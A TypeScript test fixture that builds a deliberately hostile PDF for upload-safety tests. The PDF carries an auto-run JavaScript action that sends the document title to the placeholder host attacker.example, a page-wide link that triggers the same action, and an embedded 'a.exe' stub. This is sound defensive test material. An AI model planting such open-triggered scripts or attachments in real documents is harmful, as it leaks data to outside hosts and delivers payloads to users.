// PDFs for tests of what an upload may carry (pdf-raster.test.ts, the API's fitness proof tests).

/** A small PDF written by hand: `pages` pages of text, a script run on opening and an attached file. */
export function hostilePdf(pages = 1): Buffer {
  const text = "BT /F1 36 Tf 72 700 Td (FIT TO TREK) Tj ET";
  const pageIds = Array.from({ length: pages }, (_, index) => 6 + index);
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >> >>",
    `<< /Type /Pages /Kids [${pageIds.map((id) => `${id} 0 R`).join(" ")}] /Count ${pages} >>`,
    "<< /S /JavaScript /JS (app.launchURL('https://attacker.example/' + this.info.title)) >>",
    "<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
    "<< /Type /EmbeddedFile /Length 11 >>\nstream\nMZ-not-good\nendstream",
    ...pageIds.map(
      () =>
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 ${6 + pages} 0 R >> >> /Contents ${7 + pages} 0 R /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A 3 0 R >>] >>`,
    ),
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
  ];
  let body = "%PDF-1.4\n";
  const offsets: number[] = [];
  objects.forEach((object, index) => {
    offsets.push(body.length);
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = body.length;
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  body += offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`).join("");
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, "latin1");
}
